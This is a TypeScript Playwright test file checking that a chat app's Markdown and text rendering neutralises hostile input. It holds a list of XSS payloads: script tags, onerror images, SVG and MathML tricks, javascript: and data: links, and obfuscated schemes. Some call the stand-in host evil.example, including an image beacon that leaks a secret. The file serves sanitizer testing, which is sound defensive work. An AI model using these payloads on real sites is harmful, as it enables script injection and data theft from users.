/** What agents and people say, and what they are called, may be anything: nothing of it runs, loads or leads astray. */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { Play, see, startStage } from './setup.ts';
import type { Stage } from './setup.ts';

let stage: Stage;
let play: Play;
let page: Page;
/** Addresses other than those of the page and its gateways that the page has asked for. */
const asked: string[] = [];

/** Would change the title if it ran. */
const RUN = "document.title='stolen'";
const HOSTILE: readonly (readonly [string, string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['an image', `<img src=x onerror="${RUN}">`],
  ['SVG', `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`],
  [
    'MathML',
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  ],
  ['a frame', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['a form', `<form action="https://evil.example"><button formaction="javascript:${RUN}">x</button></form>`],
  ['a style', '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>'],
  [
    'a base',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  ],
  ['a link to a script', `[press](javascript:${RUN})`],
  ['… in disguise', `[press](java\tscript:${RUN}) [press](&#106;avascript:${RUN}) <javascript:${RUN}>`],
  ['a link to data', `[press](data:text/html,<script>${RUN}</script>)`],
  ['a link of VBScript, of a file', '[press](vbscript:x) [press](file:///etc/passwd) [press](blob:x)'],
  ['a definition', `[press][x]\n\n[x]: javascript:${RUN} "title"`],
  ['an image that tells', '![x](https://evil.example/?secret=1)'],
  ['an image with markup', `![" onerror="${RUN}](x" onerror="${RUN})`],
  ['a language', `\`\`\`"><img/src=x/onerror="${RUN}">\nx\n\`\`\``],
  ['an id of the page', '<p id="text" name="getElementById">x</p> <a id="composer">x</a>'],
  ['a fence that never ends', `\`\`\`\n</code></pre><img src=x onerror="${RUN}">`],
  ['a table', `| <img src=x onerror="${RUN}"> | b |\n| --- | --- |\n| [x](javascript:${RUN}) | c |`],
];

beforeAll(async () => {
  stage = await startStage();
  play = new Play(stage, ['Ann']);
  await play.addGateway();
  page = await play.join();
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith('http://127.0.0.1:'))
      asked.push(request.url());
  });
});
afterAll(async () => {
  await play.end();
  await stage.stop();
});

const ALLOWED =
  'DIV,P,BR,HR,H3,BLOCKQUOTE,UL,OL,LI,A,EM,STRONG,DEL,CODE,PRE,TABLE,THEAD,TBODY,TR,TH,TD,SPAN,BUTTON'.split(
    ',',
  );

/** All elements and links that Markdown has made, and attributes that run code. */
function made(): { tags: string[]; links: string[]; attributes: string[] } {
  const nodes = [...document.querySelectorAll('.markdown *')];
  return {
    tags: [...new Set(nodes.map(({ tagName }) => tagName))],
    links: [...document.querySelectorAll('.markdown a')].flatMap((link) => link.getAttribute('href') ?? []),
    attributes: nodes
      .flatMap((node) => node.getAttributeNames())
      .filter((name) => /^on|^style$|^id$|^src/.test(name)),
  };
}

test('in Markdown it is text or a link to the web, whole and token by token', async () => {
  const { log } = play;
  HOSTILE.forEach(([, text], index) => {
    const turn = `t${index + 1}`;
    play.push(...log.message(`m${index + 1}`, turn), log.start(turn, `${turn}.1`, 'Ann'));
    // In the middle of it, too.
    play.push(log.say(`${turn}.1`, text.slice(0, text.length / 2)));
  });
  await page
    .locator('.markdown')
    .nth(HOSTILE.length - 1)
    .waitFor();
  HOSTILE.forEach(([, text], index) => {
    play.push(log.say(`t${index + 1}.1`, `${text.slice(text.length / 2)}\n\nafter ${index}`));
  });
  await see(page, '.markdown', `after ${HOSTILE.length - 1}`);
  const { tags, links, attributes } = await page.evaluate(made);
  expect(tags.filter((tag) => !ALLOWED.includes(tag))).toEqual([]);
  expect(links.filter((link) => !/^(https?|mailto):/.test(link))).toEqual([]);
  expect(attributes).toEqual([]);
  // Pressed, no link leads to a script.
  for (const link of await page.locator('.markdown a:not([href])').all()) await link.click();
  expect(await page.title()).toBe('s1 · Convoke');
  expect(asked).toEqual([]);
  expect(play.errors).toEqual([]);
});

test('in names, messages, arguments, reasoning and failures it is text', async () => {
  const { log } = play;
  const code = `<img src=x onerror="${RUN}">&lt;b&gt;`;
  const step = { turn: 't90', step: 't90.1', attempt: 1 };
  play.push(...log.message('m90', 't90', code), log.start('t90', 't90.1', code), log.think('t90.1', code));
  play.push(log.append('step.failed', { code, message: code, text: code }, step));
  const use = { id: 'c1', tool: code, input: { [code]: code } };
  play.push(log.append('step.started', { use }, { ...step, step: 't90.1.c1', agent: code }));
  play.push(
    log.append('person.asked', { question: 't90.2', name: code, text: code, until: 1 }, { turn: 't90' }),
  );
  await see(page, '.speech .name', code);
  await see(page, '.message .text', code);
  await see(page, '.failure', code);
  await see(page, '.tool', code);
  await see(page, '.question .text', code);
  expect(await page.locator('main img, main b').count()).toBe(0);
  expect(await page.title()).toBe('s1 · Convoke');
  expect(play.errors).toEqual([]);
});
